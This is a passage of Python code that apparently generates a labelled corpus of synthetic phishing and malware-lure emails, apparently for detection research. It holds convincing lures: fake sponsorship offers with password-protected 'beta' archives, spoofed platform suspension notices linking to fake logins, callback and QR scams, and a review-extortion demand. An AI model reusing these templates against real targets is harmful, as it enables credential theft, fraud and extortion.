             "On Mon, Aug 25, 2025 at 6:02 PM Sam Okafor <sam@geardropreviews.com> wrote:\n"
             "> Hi Adrian,\n>\n> Thanks for reaching out. My rate for a dedicated review is $2,400, integrations start at $900.\n"
             "> Happy to take a look at the game first.\n>\n> Sam\n>\n"
             "> On Fri, Aug 22, 2025 at 11:15 AM Adrian Kessler <adrian@nordvale-games.com> wrote:\n"
             ">> Hi Sam, I'm reaching out from Nordvale Games. We're launching a co-op survival game on Steam this autumn and "
             "think the GearDrop audience would love it. Would you be open to a paid review? What are your rates?\n")
    html_quote = ("<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Mon, Aug 25, 2025 at 6:02 PM Sam Okafor &lt;"
                  "<a href=\"mailto:sam@geardropreviews.com\">sam@geardropreviews.com</a>&gt; wrote:<br></div>"
                  "<blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">"
                  "Hi Adrian,<br><br>Thanks for reaching out. My rate for a dedicated review is $2,400, integrations start at $900.<br>"
                  "Happy to take a look at the game first.<br><br>Sam<br></blockquote></div>")
    markup = simple_html(["Hi Sam,",
                          "Great news - marketing approved your rate of $2,400 for a dedicated 8-10 minute video. We'd love to have it live before our Steam Next Fest demo on September 15.",
                          f"Here's the closed beta build for your review (Windows only for now, ~1.2 GB):<br><a href=\"{link}\">NordvaleBeta_Setup_v0.9.4.zip</a><br>Archive password: <b>NV2025</b>",
                          "When you run the launcher, log in with the key below so we can link your playtime to the campaign:<br>Beta key: NVB-8K2Q-77PD-GEAR",
                          "I'll send the contract via DocuSign once you confirm the build works on your setup.",
                          "Cheers,<br>Adrian Kessler<br>Influencer Partnerships | Nordvale Games"]).replace("</div>\n", html_quote + "</div>\n", 1)
    body = alt(plain, markup, stem, "gmail")
    build(stem, "malware",
          "Second step of a fake game-studio sponsorship to a tech YouTuber: a reply from the look-alike nordvale-games.com (own Google "
          "Workspace, passes) with a Dropbox link to a password-protected 'beta build' archive, the typical infostealer delivery.",
          SAM, s, Auth(dmarc="pass", policy="none"), frm=addr("Adrian Kessler", "adrian@nordvale-games.com"),
          subject="Re: Paid review - Nordvale Games x GearDrop Reviews", sent=sent, body=body, order="gmail",
          to=addr("Sam Okafor", "sam@geardropreviews.com"), in_reply_to=second, references=f"{first} {second}")


def a14_yt_sponsor_mega() -> None:
    stem = f"{PREFIX}-phish-yt-sponsor-ai-editor-mega"
    sent = T("2025-11-12 09:15:37 -0500")
    s = zoho_send("partners@vireo-ai-studio.com", sent, stem)
    link = "https://mega.nz/file/xY3kQaTB#Jm7pV2cR9wLq0fNz4sKd8hTb1yGx6uEa3oWi5nCvMrQ"
    markup = ("<!DOCTYPE html><html><head><meta content=\"text/html;charset=UTF-8\" http-equiv=\"Content-Type\"></head>"
              "<body><div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\"><div>Hi Priya,<br></div><div><br></div>"
              "<div>My name is Daniel and I manage creator partnerships at <b>Vireo AI</b> - an AI video editor that cuts long-form footage into Shorts, "
              "adds captions and B-roll automatically.<br></div><div><br></div>"
              "<div>We'd like to sponsor a 60-second segment in one of your next DIY videos. Budget: <b>$2,000 - $4,500</b> depending on views, "
              "plus a lifetime Pro license for you.<br></div><div><br></div>"
              "<div>Before we agree on the final fee, our brand guidelines require that the creator installs and tests the editor. "
              f"You can download the installer and the integration brief here:<br><a href=\"{link}\" target=\"_blank\">{link}</a><br>"
              "Password for the archive: <b>vireo2025</b><br></div><div><br></div>"
              "<div>Please record your screen while you test it - we'll use it in the brief for your editor.<br></div><div><br></div>"
              "<div>Looking forward to working together!<br></div><div>Daniel Brooks<br>Creator Partnerships, Vireo AI<br>vireo-ai-studio.com<br></div>"
              "</div><br></body></html>\n")
    body = alt(to_plain(markup), markup, stem, "zoho")
    build(stem, "malware",
          "Sponsorship pitch from an invented 'AI video editor' on its own look-alike domain (sent from Zoho, passes) asking the creator "
          "to install the tool from a password-protected MEGA archive before the deal, an infostealer lure.",
          PRIYA_C, s, Auth(dmarc="pass", policy="none"), frm=addr("Daniel Brooks | Vireo AI", "partners@vireo-ai-studio.com"),
          subject="Sponsorship for your next video - Vireo AI ($2,000-4,500)", sent=sent, body=body,
          to="collabs@priyamakes.com")


def a15_youtube_copyright_webflow() -> None:
    stem = f"{PREFIX}-phish-youtube-copyright-webflow"
    sent = T("2024-10-08 07:31:09 -0400")
    s = outlook("mhamilton@brookfieldcsd.org", sent, stem, consumer=False, region="NAM", dkim_d="brookfieldcsd.org")
    url = "https://yt-copyright-dispute.webflow.io/claim?c=CR-2024-339104&ch=geardropreviews"
    paras = ["<b>YouTube Copyright Team</b>",
             "Hi GearDrop Reviews,",
             "Your video <i>\"Is the Pixel 9 Pro worth it? 30 days later\"</i> has received a copyright strike after a takedown request from "
             "<b>Vision Media Rights LLC</b>.",
             "This is your first strike. Your channel will be temporarily restricted from uploading and monetization will be paused. "
             "If you receive three strikes in 90 days your channel will be terminated.",
             f'You can dispute this strike within 7 days: <a href="{url}">Submit a counter notification</a>',
             "- The YouTube Team"]
    markup = outlook_html(paras)
    body = alt(to_plain(markup), markup, stem, "outlook")
    build(stem, "phishing",
          "YouTube copyright-strike notice to a tech reviewer sent from a compromised school-district Microsoft 365 mailbox "
          "(authentication passes) linking to a Webflow-hosted fake dispute form that asks for the Google login.",
          SAM, s, Auth(policy="quarantine"), frm=addr("YouTube Copyright Team", "mhamilton@brookfieldcsd.org"),
          subject="Copyright strike on your channel GearDrop Reviews - respond within 7 days", sent=sent, body=body,
          to="sam@geardropreviews.com")


def a16_google_ads_sites() -> None:
    stem = f"{PREFIX}-phish-google-ads-suspended-sites"
    sent = T("2025-01-14 15:01:44 +0000")
    s = ses("adsgoogle-support.com", sent, stem, region="us-west-2", mailfrom=f"0101019{hexs(stem, 9)}@mail.adsgoogle-support.com")
    url = ("https://www.google.com/url?q=https://sites.google.com/view/ads-account-restore-4829153307/home&sa=D&source=editors&ust="
           f"{epoch(sent)}000000&usg=AOvVaw{alnum(stem + 'usg', 22)}")
    markup = card(brand="Google Ads", color="#1a73e8", heading="Your Google Ads account has been suspended",
                  font="'Google Sans', Roboto, Arial, sans-serif",
                  paras=["Customer ID: 482-915-3307 (Brightpeak Outdoor Gear)",
                         "Your Google Ads account has been suspended due to suspicious payment activity. This is in accordance with our "
                         "<a href=\"https://support.google.com/adspolicy/answer/6020955\">Unpaid balance</a> policy.",
                         "All campaigns in this account have stopped running. To reinstate your account, sign in and confirm the account "
                         "owner within 3 business days. Accounts that are not reviewed will be permanently closed.",
                         "If you think this was a mistake, you can submit an appeal from the account page."],
                  button=("Review account", url),
                  footer=["© 2025 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043",
                          "You have received this mandatory service announcement to update you about important changes to your Google Ads account."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Google Ads 'account suspended for suspicious payments' notice to an Amazon/Shopify outdoor brand from the look-alike "
          "adsgoogle-support.com via Amazon SES, with a google.com/url redirect to a Google Sites fake sign-in.",
          BRIGHT, s, Auth(dmarc="none", policy="none"), frm=addr("Google Ads", "ads-noreply@adsgoogle-support.com"),
          subject="Your Google Ads account has been suspended (Customer ID 482-915-3307)", sent=sent, body=body,
          to="ops@brightpeakgear.com")


def a17_workspace_billing() -> None:
    stem = f"{PREFIX}-phish-google-workspace-billing-workers"
    sent = T("2024-06-25 18:44:21 +0000")
    s = sendgrid("billing-gworkspace.com", sent, stem)
    url = "https://workspace-billing.admin-verify7.workers.dev/?domain=mapleandmoss.co&ref=pay-decline"
    markup = card(brand="Google Workspace", color="#1a73e8", font="Roboto, Arial, sans-serif",
                  heading="Your payment was declined",
                  paras=["Hello Administrator,",
                         "We couldn't process your most recent payment for Google Workspace Business Starter on "
                         "<b>mapleandmoss.co</b>. The card on file ending in 4418 was declined.",
                         "To avoid interruption, update your payment information by <b>June 28, 2024</b>. If payment is not received, your "
                         "Gmail, Drive and Calendar services for all users on mapleandmoss.co will be suspended.",
                         "Amount due: <b>$14.40</b>"],
                  button=("Update payment method", url),
                  footer=["Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043",
                          "You're receiving this mandatory email service announcement to update you about important changes to your Google Workspace account."])
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "phishing",
          "Google Workspace 'payment declined, services will be suspended' notice to the admin of a small Shopify shop, from the "
          "look-alike billing-gworkspace.com via SendGrid, linking to a Cloudflare workers.dev card and login harvester.",
          MM, s, Auth(dmarc="none", policy="none"), frm=addr("Google Workspace", "workspace-noreply@billing-gworkspace.com"),
          subject="Payment declined: Google Workspace for mapleandmoss.co will be suspended", sent=sent, body=body,
          to="hannah@mapleandmoss.co")


def a18_gbp_callback() -> None:
    stem = f"{PREFIX}-phish-google-business-profile-callback"
    sent = T("2024-04-03 10:27:55 -0500")
    s = gmail("gbp.verificationdesk@gmail.com", sent, stem, NOPAL)
    plain = ("Hello Business Owner,\n\n"
             "Your Google Business Profile \"Taqueria El Nopal\" (Austin, TX) has been flagged as unverified during our 2024 "
             "listing review.\n\n"
             "Unverified profiles will be removed from Google Search and Google Maps on April 5, 2024. Customers will no longer "
             "be able to find your hours, menu, reviews or directions.\n\n"
             "To keep your listing active, please call our Business Verification desk at +1 (888) 614-2097 "
             "(Mon-Sat, 8am-8pm CST). Verification takes less than 10 minutes. Please have your listing ID ready: GBP-TX-77310.\n\n"
             "Thank you,\nGoogle Business Verification Team\n")
    body = text(plain, "plain", "7bit", "UTF-8")
    build(stem, "phishing",
          "Callback scam: plain-text 'Google Business Profile unverified, will be removed from Maps' notice to a restaurant from a free "
          "Gmail account, asking the owner to phone a fake verification desk (no link at all).",
          NOPAL, s, Auth(policy="none"), frm=addr("Google Business Verification", "gbp.verificationdesk@gmail.com"),
          subject="Final notice: Taqueria El Nopal will be removed from Google Maps", sent=sent, body=body, order="gmail",
          to="luis@elnopalatx.com")


def a19_review_extortion() -> None:
    stem = f"{PREFIX}-phish-review-extortion-proton"
    sent = T("2025-06-17 03:12:08 +0000")
    trace = [dkim_header("proton.me", "protonmail3", stem + "pd", sent,
                         "Date:To:From:Subject:Message-ID:Feedback-ID:From:To:Cc:Date:Subject:\n\t Reply-To:Feedback-ID:Message-ID:BIMI-Selector"),
             "X-Pm-Message-ID: " + urlsafe(stem + "pm", 40)]
    s = custom("reputation.ops@proton.me", "mail-40131.protonmail.ch", "185.70.40.131", trace, [("proton.me", "protonmail3")],
               f"<{urlsafe(stem + 'mid', 60)}=@proton.me>",
               after=[f"Feedback-ID: {urlsafe(stem + 'fb', 60)}==:Ext:ProtonMail", "X-Pm-Origin: external", "X-Pm-Content-Encryption: end-to-end"])
    plain = ("To the owner of Studio Lumen Salon,\n\n"
             "Your salon has 4.8 stars from 212 reviews on Google. We would like to keep it that way for you.\n\n"
             "We control a network of aged Google accounts with local history in your area. Starting Friday we will publish "
             "one-star reviews on your profile every day (unhygienic tools, rude staff, burnt hair). Two of them were posted "
             "this morning so you can see we are serious. Google rarely removes reviews from accounts with real history.\n\n"
             "To stop this, send 250 USD in USDT (TRC20) to the wallet below within 72 hours. After payment we stop and "
             "you will not hear from us again. Do not waste money on reputation agencies.\n\n"
             "TRC20: TQx7mKp2Vw9aLrD5nYc3FhE8sGu1JbZ4oN\n\n"
             "Reply to this address if you need instructions to buy USDT.\n")
    markup = "<div style=\"font-family: Arial, sans-serif; font-size: 14px;\">" + "".join(
        f"<div>{esc(p)}</div><div><br></div>" for p in plain.strip().split("\n\n")) + "</div>\n"
    body = alt(plain, markup, stem, "php")
    build(stem, "phishing",
          "Review-extortion threat to a hair salon from a Proton Mail address: pay 250 USD in USDT or receive daily fake one-star Google reviews.",
          LUMEN, s, Auth(policy="quarantine"), frm=addr("Reputation Ops", "reputation.ops@proton.me"),
          subject="Your Google rating", sent=sent, body=body, to="bookings@studiolumensalon.com")


def a21_shopify_de() -> None:
    stem = f"{PREFIX}-phish-shopify-auszahlungen-de"
    sent = T("2024-09-10 07:58:13 +0200")
    s = postfix("mx01.shopify-zahlungen.de", "91.215.85.77", "noreply@shopify-zahlungen.de", "shopify-zahlungen.de", sent, stem, selector="s1")
    url = "https://admin.shopify-zahlungen.de/store/roesterei-hansen/settings/payments/verify?token=" + urlsafe(stem + "tok", 32)
    markup = card(brand="shopify", color="#008060", lang="de", heading="Ihre Auszahlungen wurden vorübergehend pausiert",
                  font="-apple-system, BlinkMacSystemFont, 'San Francisco', 'Segoe UI', Roboto, 'Helvetica Neue', sans-serif",
                  paras=["Hallo Jonas,",
                         "im Rahmen unserer regelmäßigen Überprüfung benötigen wir zusätzliche Angaben zu Ihrem Shop "
                         "<b>Kaffeerösterei Hansen</b>. Bis zur Bestätigung werden Ihre Shopify Payments-Auszahlungen zurückgehalten.",
                         "Aktuell zurückgehaltener Betrag: <b>2.184,60 €</b>",
                         "Bitte bestätigen Sie Ihre Identität und Bankverbindung innerhalb von 5 Werktagen. Andernfalls wird Shopify "
                         "Payments für Ihren Shop deaktiviert und ausstehende Beträge werden bis zu 120 Tage einbehalten."],
                  button=("Angaben bestätigen", url),
                  footer=["Shopify International Limited, 2nd Floor Victoria Buildings, 1-2 Haddington Road, Dublin 4, D04 XN32, Irland",
                          "Diese E-Mail wurde an info@roesterei-hansen.de gesendet."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "German Shopify Payments 'payouts paused, confirm identity and bank details' notice to a coffee roaster from the look-alike "
          "shopify-zahlungen.de (attacker's own Postfix server, SPF/DKIM pass) with a fake Shopify admin login.",
          HANSEN, s, Auth(dmarc="none", policy="none"), frm=addr("Shopify", "noreply@shopify-zahlungen.de"),
          subject="Ihre Auszahlungen wurden vorübergehend pausiert", sent=sent, body=body, to="info@roesterei-hansen.de", lang="de-DE")


def a23_stripe_it() -> None:
    stem = f"{PREFIX}-phish-stripe-pagamenti-sospesi-it"
    sent = T("2025-05-06 11:24:50 +0200")
    n = rint(stem, 10, 60)
    trace = [dkim_header("studiocontabilemarchetti.it", "a1", stem + "ar", sent, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type"),
             f"Received: from webmail.aruba.it ([{rint(stem + 'w1', 10, 250)}.{rint(stem + 'w2', 1, 250)}.{rint(stem + 'w3', 1, 250)}.{rint(stem + 'w4', 1, 250)}])\n"
             f"\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid {alnum(stem + 'aid', 16)}; {fmt(sent)}",
             "X-Sender: amministrazione@studiocontabilemarchetti.it", "User-Agent: Roundcube Webmail/1.6.9"]
    s = custom("amministrazione@studiocontabilemarchetti.it", f"smtpcmd{n:02d}.aruba.it", f"62.149.158.{n + 150}", trace,
               [("studiocontabilemarchetti.it", "a1")], f"<{hexs(stem + 'rc', 32)}@studiocontabilemarchetti.it>",
               after=["X-Spam-Level:", "X-CMAE-Envelope: MS4x" + alnum(stem + "cmae", 80)])
    url = "https://stripe-verifica-account.webflow.io/?acct=acct_1Nq8hTBellini"
    markup = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\" /></head><body style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>\n"
              "<p><span style=\"color:#635bff;font-size:18pt;font-weight:bold\">stripe</span></p>\n"
              "<p>Gentile Marco Bellini,</p>\n"
              "<p>i pagamenti verso il tuo conto bancario sono stati <strong>sospesi</strong> perché non siamo riusciti a verificare alcune "
              "informazioni sulla tua attività (Bellini Studio).</p>\n"
              "<p>Saldo in attesa di bonifico: <strong>€ 3.460,00</strong></p>\n"
              "<p>Per riattivare i bonifici accedi alla Dashboard e conferma i dati del titolare entro 48 ore. Dopo questo termine "
              "il saldo verrà trattenuto fino a 90 giorni, come previsto dal Contratto di servizi Stripe.</p>\n"
              f"<p><a href=\"{url}\" style=\"background:#635bff;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none\">Verifica il tuo account</a></p>\n"
              "<p>Grazie,<br />Il team di Stripe</p>\n</body></html>\n")
    body = alt(to_plain(markup), markup, stem, "php")
    build(stem, "phishing",
          "Italian Stripe 'payouts suspended, verify within 48 hours' notice to a freelance designer sent from a compromised accounting-firm "
          "Aruba webmail account (authentication passes), linking to a Webflow-hosted fake Stripe sign-in.",
          BELL, s, Auth(policy="none"), frm=addr("Stripe", "amministrazione@studiocontabilemarchetti.it"),
          subject="Azione richiesta: i tuoi bonifici Stripe sono sospesi", sent=sent, body=body,
          to="marco@bellinistudio.it", lang="it-IT")


def a24_square_qr() -> None:
    stem = f"{PREFIX}-phish-square-deactivated-qr"
    sent = T("2025-03-04 16:45:09 +0000")
    s = ses("squareup-notices.com", sent, stem, region="us-east-1", mailfrom=f"0100019{hexs(stem, 9)}@mail.squareup-notices.com")
    qr = files.qr_png("https://sq-secure-login.com/r/9f3a7c?m=elnopalatx")
    markup = card(brand="Square", color="#006aff", heading="Your Square account has been deactivated",
                  paras=["Hi Luis,",
                         "We noticed unusual sign-in activity on your Square account and have temporarily deactivated card processing and "
                         "transfers for <b>Taqueria El Nopal</b> to keep your funds safe.",
                         "To reactivate your account, scan the code below with your phone camera and confirm your identity. "
                         "For your security this verification can only be completed on a mobile device.",
                         '<img src="cid:sqverify@squareup" width="180" height="180" alt="Scan to verify" style="display:block;margin:0 auto">',
                         "Transfers will resume within 1 business day after verification."],
                  footer=["© 2025 Block, Inc. 1955 Broadway, Suite 600, Oakland, CA 94612",
                          "Square Capital, LLC and Block, Inc. are not affiliated with this email's recipient."])
    plain = ("Your Square account has been deactivated\n\nHi Luis,\n\nWe noticed unusual sign-in activity on your Square account and "
             "have temporarily deactivated card processing and transfers for Taqueria El Nopal.\n\nTo reactivate your account, "
             "scan the QR code in this email with your phone camera and confirm your identity.\n\n(c) 2025 Block, Inc.\n")
    body = Multi("related", bnd("java", stem + "rel"), [
        alt(plain, markup, stem, "java"),
        Leaf("image/png", qr, "base64", '; name="verify.png"', 'inline; filename="verify.png"', ["Content-ID: <sqverify@squareup>"]),
    ], params=' type="multipart/alternative";')
    build(stem, "phishing",
          "Square 'account deactivated after unusual sign-in' notice to a taqueria from the look-alike squareup-notices.com via Amazon SES, "
          "with an inline QR code (quishing) to a mobile-only fake Square login.",
          NOPAL, s, Auth(dmarc="none", policy="none"), frm=addr("Square", "account-security@squareup-notices.com"),
          subject="Your Square account has been deactivated", sent=sent, body=body, to="luis@elnopalatx.com")


def a25_paypal_limited() -> None:
    stem = f"{PREFIX}-phish-paypal-limited-tinyurl"
    sent = T("2024-05-21 08:19:36 +0100")
    s = postfix("mail.paypal-resolution-centre.co.uk", "185.225.17.93", "service@paypal-resolution-centre.co.uk",
                "paypal-resolution-centre.co.uk", sent, stem, selector="dkim")
    short = "https://tinyurl.com/ppl-resolve-8821"
    markup = card(brand="PayPal", color="#0070ba", heading="We've limited your account",
                  font="'Helvetica Neue', Helvetica, Arial, sans-serif",
                  paras=["Hello Tom Ashworth,",
                         "We noticed some unusual activity on your business account and, as a precaution, we've limited what you can do with it. "
                         "While your account is limited you won't be able to send money, withdraw funds or receive payments from buyers.",
                         "To lift the limitation, please confirm some information about your business (Retro Relay) in the Resolution Centre.",
                         "Reference: PP-L-0077-2184-9931"],
                  button=("Resolve now", short),
                  footer=["Copyright © 1999-2024 PayPal. All rights reserved.",
                          "PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Classic 'we've limited your account' PayPal business notice to an eBay UK seller from the look-alike "
          "paypal-resolution-centre.co.uk (own server, passes) with a TinyURL link to a PayPal login kit.",
          RETRO, s, Auth(dmarc="none", policy="none"), frm=addr("PayPal", "service@paypal-resolution-centre.co.uk"),
          subject="Your account has been limited", sent=sent, body=body, to="tom@retrorelay.co.uk", lang="en-GB")


def _paypal_sender(stem: str, sent: datetime, d: str = "paypal.com", mf: str = "service@paypal.com") -> Sender:
    n = rint(stem + "pp", 1, 9)
    host, ip = f"mx0.slc.paypal.com", f"173.0.84.{225 + n % 4}"
    trace = [dkim_header(d, "pp-dkim1", stem + "ppd", sent, "Content-Type:Date:Subject:To:From:MIME-Version:Message-ID;"),
             f"Received: from ccg01mail{rint(stem + 'cc', 10, 40)}.phx.paypal.com (ccg01mail{rint(stem + 'cc', 10, 40)}.phx.paypal.com [10.{rint(stem + 'a', 10, 250)}.{rint(stem + 'b', 1, 250)}.{rint(stem + 'c', 1, 250)}])\n"
             f"\tby mx0.slc.paypal.com (Postfix) with ESMTP id 4{alnum(stem + 'ppq', 11)}\n\tfor <{{rcpt_addr}}>; {fmt(sent, -7 if _us_dst(sent) else -8)}",
             "X-PP-REQUESTED-TIME: " + str(epoch(sent)) + digits(stem + "ms", 3),
             "X-PP-Email-transmission-Id: " + uuid(stem + "ppt"),
             "PP-Correlation-Id: " + hexs(stem + "pcid", 13)]
    msgid = f"<{hexs(stem + 'ppm', 8)}-{hexs(stem + 'ppm2', 4)}-{hexs(stem + 'ppm3', 4)}-{hexs(stem + 'ppm4', 4)}-{hexs(stem + 'ppm5', 12)}@phx-{alnum(stem + 'phx', 6).lower()}>"
    return custom(mf, host, ip, trace, [(d, "pp-dkim1")], msgid, after=["X-MaxCode-Template: EMAIL_" + alnum(stem + "tpl", 10).upper()])


def a26_paypal_invoice_callback() -> None:
    stem = f"{PREFIX}-phish-paypal-invoice-callback"
    sent = T("2024-12-09 21:06:40 -0800")
    s = _paypal_sender(stem, sent)
    inv = "https://www.paypal.com/invoice/p/#" + alnum(stem + "inv", 24).upper()
    note = ("Your PayPal account has been charged $749.99 USD for a Bitcoin purchase (Order #BTC-88201). If you did not authorize "
            "this transaction, call PayPal Billing Support immediately at +1 (844) 902-5571 to cancel and receive a full refund within 24 hours.")
    markup = card(brand="PayPal", color="#003087", heading="Billing Department sent you an invoice for $749.99 USD",
                  font="'PayPal Sans', 'Helvetica Neue', Arial, sans-serif",
                  paras=["Amount requested: <b>$749.99 USD</b><br>Due on receipt<br>Invoice number: 0041",
                         f"<b>Note from seller</b><br>{esc(note)}"],
                  button=("View and Pay Invoice", inv),
                  after_button=["Don't recognize this invoice? <a href=\"https://www.paypal.com/us/smarthelp/contact-us\">Report this invoice</a>"],
                  footer=["PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.",
                          "Copyright © 1999-2024 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.",
                          "PayPal PPX001227:1.1:" + hexs(stem + "ppx", 12)])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Callback scam through PayPal's genuine invoicing (service@paypal.com, passes SPF/DKIM/DMARC): a $749.99 'Bitcoin purchase' "
          "invoice whose seller note tells the Etsy ceramicist to phone a fake PayPal billing number.",
          WILD, s, Auth(policy="reject"), frm=addr("service@paypal.com", "service@paypal.com"),
          subject="Invoice from Billing Department (0041)", sent=sent, body=body, to="nora@wildfernceramics.com")


def a27_etsy_buyer_qr() -> None:
    stem = f"{PREFIX}-phish-etsy-buyer-qr-verify"
    sent = T("2025-04-22 13:50:12 -0400")
    s = gmail("emilycarter.buys@gmail.com", sent, stem, WILD)
    qr = files.qr_png("https://etsy-seller-verify.shop/activate?s=wildfernceramics&amp=1")
    cid = f"ii_{alnum(stem + 'cid', 16).lower()}"
    plain = ("Hi Nora,\n\n"
             "I tried to order the speckled mug set (4 pcs) from your shop but at checkout Etsy says your shop is not verified "
             "to receive payments yet. I contacted Etsy support and they sent me this QR code to forward to you - you just scan "
             "it and confirm your shop so the payment can go through.\n\n"
             "[image: etsy-verify.png]\n\n"
             "I really need them before my sister's birthday on May 3rd so please let me know when it's done!\n\n"
             "Thanks so much,\nEmily\n")
    markup = simple_html(["Hi Nora,",
                          "I tried to order the speckled mug set (4 pcs) from your shop but at checkout Etsy says your shop is not verified to receive payments yet. "
                          "I contacted Etsy support and they sent me this QR code to forward to you - you just scan it and confirm your shop so the payment can go through.",
                          f'<img src="cid:{cid}" alt="etsy-verify.png" width="240" height="240">',
                          "I really need them before my sister&#39;s birthday on May 3rd so please let me know when it&#39;s done!",
                          "Thanks so much,<br>Emily"])
    body = Multi("related", bnd("gmail", stem + "rel"), [
        alt(plain, markup, stem, "gmail"),
        Leaf("image/png", qr, "base64", '; name="etsy-verify.png"', 'inline; filename="etsy-verify.png"',
             [f"Content-ID: <{cid}>", f"X-Attachment-Id: {cid}"]),
    ])
    build(stem, "phishing",
          "Fake Etsy buyer on Gmail tells a ceramics seller that Etsy needs her shop 'verified' before payment and forwards a QR code "
          "leading to a fake Etsy page that collects the seller's login and card (the 2024-25 Etsy QR scam).",
          WILD, s, Auth(policy="none"), frm=addr("Emily Carter", "emilycarter.buys@gmail.com"),
          subject="Question about the speckled mug set - payment issue", sent=sent, body=body, order="gmail",
          to="nora@wildfernceramics.com")


def a28_etsy_mailgun() -> None:
    stem = f"{PREFIX}-phish-etsy-shop-suspended-lookalike"
    sent = T("2024-07-30 20:11:02 +0000")
    s = mailgun("mail.etsy-sellerteam.com", "etsy-sellerteam.com", sent, stem)
    url = "https://etsy-sellerteam.com/your/shops/me/verify?ref=susp&shop=LittleFoxPrints"
    markup = card(brand="Etsy", color="#f1641e", heading="Your shop has been suspended",
                  font="Graphik Webfont, -apple-system, Helvetica Neue, Arial, sans-serif",
                  paras=["Hi Megan,",
                         "Your shop <b>LittleFoxPrints</b> has been suspended because we were unable to verify the information linked to your "
                         "Etsy Payments account. Your listings are no longer visible and your upcoming deposit has been put on hold.",
                         "To reopen your shop, complete the seller verification. This usually takes less than 5 minutes.",
                         "If we don't receive the information within 3 days, your shop will be permanently closed and your funds will be "
                         "returned to buyers."],
                  button=("Complete verification", url),
                  footer=["Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201", "This email was sent to hello@littlefoxprints.com."])
    body = alt(to_plain(markup), markup, stem, "mg")
    build(stem, "phishing",
          "Etsy 'shop suspended, complete seller verification in 3 days' notice to a print shop from the look-alike etsy-sellerteam.com via "
          "Mailgun (passes), linking to a fake Etsy sign-in and payments form on the same domain.",
          FOX, s, Auth(dmarc="none", policy="none"), frm=addr("Etsy", "support@etsy-sellerteam.com"),
          subject="Your Etsy shop has been suspended", sent=sent, body=body, to="hello@littlefoxprints.com")


def a29_ebay_compromised() -> None:
    stem = f"{PREFIX}-phish-ebay-restricted-compromised"
    sent = T("2025-10-14 09:02:51 +0100")
    s = outlook("accounts@kestrelplumbingsupplies.co.uk", sent, stem, consumer=False, region="EUR", tenant="kestrelplumbing")
    url = "https://www.thecornishbakehouse.co.uk/wp-includes/js/ebay/signin.php?ru=seller-hub&id=retrorelay_uk"
    paras = ['<span style="font-size:20pt;"><b><span style="color:#e53238">e</span><span style="color:#0064d2">b</span><span style="color:#f5af02">a</span><span style="color:#86b817">y</span></b></span>',
             "Hello retrorelay_uk,",
             "We've restricted your selling account because of a recent increase in unresolved buyer disputes. While the restriction "
             "is in place, your listings are hidden in search and payouts are on hold.",
             "To remove the restriction, please review the cases in Seller Hub and confirm your account details within 48 hours.",
             f'<a href="{url}">Go to Seller Hub</a>',
             "Thank you,<br>eBay Customer Service"]
    markup = outlook_html(paras)
    body = alt(to_plain(markup), markup, stem, "outlook")
    build(stem, "phishing",
          "eBay 'selling account restricted' notice to a UK vintage-electronics seller from a compromised plumbing supplier's Microsoft 365 "
          "mailbox (passes), linking to an eBay sign-in kit on a compromised bakery WordPress site.",
          RETRO, s, Auth(policy="none"), frm=addr("eBay", "accounts@kestrelplumbingsupplies.co.uk"),
          subject="We've restricted your selling account", sent=sent, body=body, to="tom@retrorelay.co.uk", lang="en-GB")



def a31_amazon_listing_removed() -> None:
    stem = f"{PREFIX}-phish-amazon-seller-listing-removed"
    sent = T("2025-04-29 12:37:18 +0000")
    s = ses("sellercentral-amazon-cases.com", sent, stem, region="us-east-1",
            mailfrom=f"01000196{hexs(stem, 8)}@bounce.sellercentral-amazon-cases.com")
    url = "https://sellercentral-amazon-cases.com/ap/signin?openid.return_to=%2Fperformance%2Fnotifications%2Fdetail%3Fcase%3D17824490531"
    markup = card(brand="amazon seller central", color="#ff9900", bg="#eaeded", heading="Your listing has been removed",
                  font="Arial, sans-serif",
                  paras=["Hello,",
                         "We removed the following listing because it may infringe the intellectual property rights of another party:",
                         "ASIN: <b>B0C8K2XWQ7</b><br>Title: Brightpeak Ultralight 2-Person Backpacking Tent, 3-Season<br>"
                         "Complaint ID: 17824490531<br>Rights owner: Summit Dynamics Inc.",
                         "Repeated intellectual property complaints may result in the deactivation of your selling privileges. "
                         "If you believe the complaint was made in error, you can submit a plan of action from the Account Health page "
                         "within 72 hours.",
                         "To view the complaint details, sign in to Seller Central:"],
                  button=("View Account Health", url),
                  footer=["Thank you,", "Seller Performance Team", "Amazon.com, 410 Terry Avenue North, Seattle, WA 98109"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Amazon Seller Central 'listing removed for IP complaint, respond in 72 hours' notice to an outdoor-gear seller from the look-alike "
          "sellercentral-amazon-cases.com via Amazon SES (passes), linking to a Seller Central sign-in clone.",
          BRIGHT, s, Auth(dmarc="none", policy="none"), frm=addr("Amazon Seller Central", "seller-notification@sellercentral-amazon-cases.com"),
          subject="Your listing has been removed: ASIN B0C8K2XWQ7", sent=sent, body=body, to="ops@brightpeakgear.com")


def a32_amazon_de_html() -> None:
    stem = f"{PREFIX}-phish-amazon-verkaeuferkonto-html-de"
    sent = T("2025-11-25 06:44:30 +0100")
    n = rint(stem, 1, 9)
    trace = [dkim_header("praxis-dr-wendt.de", "strato-dkim-0002", stem + "st", sent,
